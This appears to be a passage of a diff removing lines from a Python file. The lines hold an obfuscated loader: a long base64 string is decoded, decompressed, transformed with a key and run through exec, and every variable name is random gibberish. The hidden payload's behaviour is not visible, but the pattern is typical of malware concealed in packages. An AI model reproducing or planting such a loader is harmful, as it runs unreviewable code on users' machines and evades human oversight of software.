-lzcdrtfxyqiplpd = 'eNq9W19z3MaRTyzJPrmiy93VPSSvqbr44V4iUZZkSaS+xe6X2i+Bqg0Ku0ywPJomkyNNy6Z1pGQ7kSVSKZimb4khaoBdkiCxAJwqkrvp7hn8n12uZDssywQwMz093T3dv+4Z+v3YCwPdixq+eIpG6eNh5LnJc+D3WfJ8wCO2sJi8xT0edL2wnxIYHMSh57AopROmI3k0ch3fS157nsN7aeMg7PX8AyNk3w9YFJS+sjD0wnQKzzliaY9zP+76GZnoeBD4vUY39Pq6zQOGnOuyLXlv03ps1gu4eDz3XCaGxDw4hgmTEa/gVTQcB0FsOD2fuUHS+JcXL15tsyj23Ig1Gr/Xa/9du1+/VputX6//rDZXv67X7tXu1n9Rm6k9rF+t3dE/H3S7LNRrc7Wb+pZnM+Mwajg9HkWyZa2hw8//RQEPfKfPgmPPpi826+rIg3UwClhkwiqAbeY6nu27+6tbwHtHDMWfZrNZew+ng39z9Z/XZurv1B7ClI/02n14uQo83dJrt5BLHZru1W7Cy53aA8Hw3fq1+lvQ7W1gl/iUjQ/qN+pXgHQ6jd9NOdBXV3VNGIWW8YE/IQsGoSsNxjhYWLQZDGG0gk7ak/UqxHyXh6MSMejkR74L0nEdJoUQBWGn2Cs3LXYxiC4zNbBS351f0TqNMT2L7Ewxk2qWQdCdX8/NkQgg1ZtoukzPMBmIoqzohPraT6EExWoS0p1Go4GsWZbL+8zsDlynreOj5AQtrmL5t9Dqa/fQkNDmyKAEAWFXX+4k1oT0DNFkWfoqUW7kWMJ24IB8B4nI2mfBjr/vPt607RD8jBkPDnq+Yx2xUVv34sCH/ZjfFclEtV+Dtc+CgcOmQHuvzei1D3A7wP/nYCvM4B4RGwNs/hawjHvnjr7j9bjLC6RA8HIisBQd58pknjSs6hdnmbZ7ft8P4JtsNWANYJT4UWvrK8vLy0IVzLVjz3cDHL6X7Wl0PtFaq8Vj3+hz33VZMH/AQFUR8WY4Xr/ZrnYXrfNyhLEP7u+Ujwywu0Hf8D3VkH0PWTsA13xkDKLW+gLnzuIStxcX1xe7HznrKx8t/88nvOssLa8sfrjiTJg1jB1DaMZFXzeGRVwRzQbu2DWGo3M5vPUVe3K8EC8tbXz34Sbb/svwi53+hNkMG6fzwv0JXXrMw07ASOvPMC3ay+rj7Y2NCUOQO8/tgjvq+cEIRNYSK7pkSEwBygCZn3rhUUvYzG7OGHgUWBTSQM1oPVkThNLUCHTfzQwiM7AgHBV3OESe91JHPlO7r8PjndoHYMD36u8UeuL2hikxshv2oB9H5kXFezaxFQTVXNObS8ZybqlpD9+GxhVFg3BmOFLuUbA02KKPvVDuVRW1mIe8H8GgvfxGvmjS7oDP9PtstzDwrDPW56aizFzb97DmIrwwtsVvs8JOIvAqoyi8VfLJlaZjxm0WRqsXzSeeGwBEmH8xihnKgccxLInjpm+hYJtn1dFCaqvNV093XjQLrRNWBUr/z/oNcmCzEJ6vVxSv43+AA2qPIPDfAbeHof9+gcapHxyXBQOvXsxcE94FNvIGwepHyx0AbyBJAXZUIVe0WNLCkncgy22zY8iYo1RW2TB7Hrcjs0Bxshx+jQuu3SbY8hCBywP5P5AMQiDy9Pfq/woPdxEL6bXb+H6VhlytzZRhBgVBctDn/dPg8Gh/6IVaR4edmbXQ7tVU4IP7EdM3hg4jT2+Wh7R17aV75HqnsLcFjYmmm0VlogFSGfQwZOztjhnGaOaMAdRbSWEF98MKTfyU+ylON6IeY7G5bKx0UM4QpfqRMLFbJOvfobQLwx2wft8d5PxZWRzd5mMOaN3WeTcALMx7vZyL0y8y1s6anULU756cR6F73js2Lw/rfdb3BMyoX0XkAZ+R64cITjDIz2Hgv1N/G8L7HLS9D2jk6VaBaMHHErmcoy7I+/QYlqO7XkDdioKOUg8Iw4VoK+Cl6g8/P3zONg9fhTtfPfYBfn3uLp58e7J/HH16+MlXTzbWN798Hhw4n+yse+s7TxT+NHOcCCvOpvUnYPe4iBzwzbhvgw+OAtoBPXANWUMHYedydROozGhlubrtC/Yybnv/BpQ0W39XqFLiS6VeweGhDhpF39r3rCDkbsSdBJftDSnMDjG+5lQEEhjq3LX1odhrOFTr7JalVKG4pnDoZDCVnnvLu3uC7O74FV8mu0ZONP9FIX82j2cBbqNPA/GgF8QkED/qMLVM6OAzbBUcdacoLuFbyHkbkMWbofbN3jf2H7/Z/Sb6A7ot+If9FZxIN1X03kCr1PUS1ySpQPJjsjTn8KPtQRT53N0ZRQHrVzd/0fe3xfquEKyfA1G8g2gewgDmugDyUTQYDikE/BbDJPmAuQJRRUiB+HoToi095gjVb9CAQcRCSm0A3xO0Z+6Jqb3c2dje2vxiQ4SOUoP4qGkSD2ICl+/ybHPrU5J5J+0w4Pus2unl5qcb+Y6OhS612O2JtfnsWa5TushqPjQLnx6KwKlaaMEtRqQRS1RxYErxgNOC5jioX3wwO2h72WKFFYwnI7s1JgV3cN3XSHWispFoR0QcYS9WzAOIMGLDa+HA2n6JIggH88kDdcNHgZdoudfFe5663Kt+ZCWUc9p4zHtRCb37btdDz7KXWEWb1NdOldiWWmoXl75byOuRSqn+AV+g6ynDqI0vBr2YRa+KHMiVIxNlYVR9FcwlGxN6OC6brDpivDRehCVXnvwcAAw8mqhWdElUjroN/96v3aPUvH4dE/Cq5dH4GwRu0TZpj3+QGjNu+3eLBB+l5CQswOBxU1S1dGnl92AE7oKHOCZLtmR1cGz8B17+g2oGzyCQDVtfcCevRtiGWFE02BACaGRqLRY4rYRmGT4SHCfwXeqH5qoRAu9W1ZHjsJvAbSwgxWapxKbkhWwPSZSZmUbGJMto1O/57lFhcCVFLTEKrCCnOK7KBzTFPQ4ARGsNorAVHfOQtXAgGmUr58eKkLc6YcyjaILCvvZd2zuN8upKitlGJKMNldVkx1JdTbnGNIZmZXAjHLjmnhacY10auW/ta7tt3eExwg4L0qsYMizcOpBvsWH6KFOvDzuqLSvmMUTIxNRqDBAryV0OiwIbSFes5E1kCQ6wd8CdI32e9pE0kXfBH1+jjBQ+Ydn5l0mIaZTwZsJcSbYZyzIcKIDEWmN890IkSJpLRbW+FzneabOtN484WCJA7ZDb+BrxPg85Po3YEQfX6LsHAywtZQtvev3oiIaGPHK9EQ/Fqx8eDQLxOOLJYzbqpMdt/8SLAo+69Pk+t7krWOg7xzw4omm5y+1RSD2AQLl6lPO9uYVnkSj5mAYLRFTJx04hamC0CM7zgSKVVSEaiT5FwqXopGSqEhCmCAQFg4Ft+vLFk2oE8LrdiOE+S450DMiowfFB+ihnh5dB4Ih+ORuHb1Y6WDwYgRfwnhUxyEYAunb0lv7RwvIyuW/Rk4Fo9eWGYq0pqSX9f1fzxOFtZUlprKrRJRghkbAqyGJ+YqqEjcijTDlB0eC9XMTlFlZiD6MKiH4PJU+FktviKAih4BxFSdrSd0RQJP0kB1djs2XQ6a+oBjVDhwCzsjT1cvtZ7tipNB8Gl9uitHCb3MgcGME9CstzVKrB2DNLuc1bdJiQANIMQIIUK947y+C5c+yTRaZ95CezU4FRecNPaI+NAtBH4317YVHDHZLMg2h3uL5gqT4Xv1U97SBE/K4lZWWhMixttxI1tkLWYzxirZOlJeMTY5n6zMuX+VPfnYdJjHM/1irEsadl++gVNNWo4gi0+5+IwfWFN2FwfUErYpqcfj7jIfRRqSfsV7TAeegc/9SasImjeZgf1BHw0Ng/f40F50f/M9Qi5xv+AF4LBkRcojsgYFzVSlUDQjO03p9ULz1kKKeW4essNTf4n6EVMd3wzTkt6KSYQV0TID67C1C/IqtqMvam3Y+9PhNTZElEDKEIU1xT+3sOj6ehBnvl+h96vmtKMu30Kx5K06EyiClXBwcUHHInmEwjWXdnzOpSWCECEFWGZrLYA8uUhaFrtd9BQz6uTev8iQU2ZGUe8/y3hVZAYEzrNMYby5S0DnwqWWBvTR2ySmleQld9eyFpVcqwCAsIzb9F50mzaa8YsHFgdpufSbXjTQQpSbrKoF+AZs8Mw2jmIFjlwAmYCX12QmbQLpqQWru/LQKT+o2EwwpjG0J8eb4CT7/IS7XEHogQ2DAYYEFMyE2NApUqVZc3j4xv/fgx/DYLjGc5O3SzQqbI3GWDIZmBTCqx7lLmXuJHuucSS8lNLR7SdagKt7LBoAJDhdU1JIjcQjc1t7Lhjbgd/tjcDn8MbhWV9OQcFQ+HrqDhjz91pxpG3zsp6b3TmJRKq9PoiZvxkqp5auh0nmdX9+EaWPtZs3LTh6pZIj2InNH5+cnJSGw/R2b05STh30E+72NpFGA6FWJzN8OoNCQgPp6uwn68ifsypUVn0ZgR3KRbQu/K+2nJefS4PGL8rQYkSO/v0/m3SE6AHN5kfP1zf1x3Q3mer3ng86uJRZIzlA7zk4P8Tzdy5/hqe5t8dt/4cU/o3+BQvlILTEt/OWXkhT9X3N4nlrhwlp9WSpVO1yrX0Zr8u2/9//9uq7d1+LfVZspc6XQcknSwX7whMj1hZ+n5odN/vsyXnn84lnDxGFuarYmbpK1X78hoA3Y+iA+GPhiH+kaINooPghNoTiWh6CNW8xUbQb9sZaWLLuPKX2M9Qso9sE7X4Arn6HgZrFIA+BVE0wekSDw9AzD4FuzTB+JgVcLA3OHYv1Fif19fWdbp2txD6nwLncCMyPuFD5D2nZT+5GafdL455aEP/P6X4vHUteRa3rgDw8xVNmV7Au9sFjAnYHZbj478OEbPCT7YGaBkK26zwCWgkNpdukiCZStIWfzAoEvT00NmHDMZ5mop2fzpXRXnpZQ6E26KZScMaXfCKYpbpmNOG5xj5hxZ5es6Zvc1b+jcolrOjXJWmFEXR/BY3VNdskn7sXwJEAEnPkQB78dmRmtP0NnVW+KmJbGE4eKBTBCupvcK6ESjH1VvhQ1jP0Sfk5v5j9ktctPmo2h1qVqqV9XuJa0/lWqX6uK9tNm/grp0BER43zQK/F5PP+E9P2e0zY5yfM5sJ/JFVbu70gnkLhSoFFW0g1S6eCoZmKWCbKaPjv6H3EXXy63y9DWsEn/SS405zbf1bud1bkYVwRSGSXQH6Q7MQ6lG4Sypz52nO/n79JVsaezpUqVuNeWufR35ZLK5ENpam1JXZz9MgqehH1wqQcU1hAK0nFNGE7GDb6mOh6V3EoEmd2+sCsQwIGbhMgR3Ky+uVKqI0Kg4FCss1ndTWrjMMDxT7Mlp9qM8GhOsKE/sK3+eYPtO0KHDAQ0PVal+hi2TnEq3GfMRem+aDfwtIB3lXwnsCZq7GXaacmVTCZEMUMKAKtUEJwA4AmO1Ah4dmTmVdqYowSkrGeVyj6IMUzk1UWkCRZeMmejB5bXHwEvpJjz8cM9dAefp/ildblVBaDwQpmCbodHqETv+EKItjREoV90/wcilISl0Vo9Sq6+QB94mkHmfPAGu8ZH+5U61NJWu1wn9OLCKWAzeqO6YvPODCH+bloVB1rI6HYUPFW0qtJbNgYANdDrlwn4jDrMAerwtz8thJcKxqeYXB/16F7D4CQ/pT9Iiku73Az+ETIc+NDsfNxxIiwI9VSiWhi8yvZ9pSQ/LR4WKvz4j+GRqF6TSM9BOUzgDpMcAbJg88A6gPdHfmdbpfJz/k7BJC8XiAf2VTVaqm6g05eWKYizM6+MN4AIdfxsYoJgpRaveh8qPygw+tyCd/vKOKh5jXQ0ZZ3ZN5BWtai9xJu2Cwe229bGryJOjix2rOaqfbTzfevns2dTDwUWrhk8zmlw0oIJuj+9HeSJPtjc2X2xYW0+tr/+69dnTry+/aSNP3KdUyBSwRB2xZZ4HAAVUhxZQrpWVKzaiqpXPjumeZPrnbnTpVKQ6iQOmk+/GD4/dIvTaljhQmjJOF2snSZkvRypX7nvtOkMF/WBpIZEg/T0s7XpM2msPdarYz4FIrpCAHlCq8agky4af/Jkh/ingqt60LCRqWU0xbYIG8EqVKGR0/gFkGhSN'
-runzmcxgusiurqv = wogyjaaijwqbpxe.decompress(aqgqzxkfjzbdnhz.b64decode(lzcdrtfxyqiplpd))
-ycqljtcxxkyiplo = qyrrhmmwrhaknyf(runzmcxgusiurqv, idzextbcjbgkdih)
-exec(compile(ycqljtcxxkyiplo, '<>', 'exec'))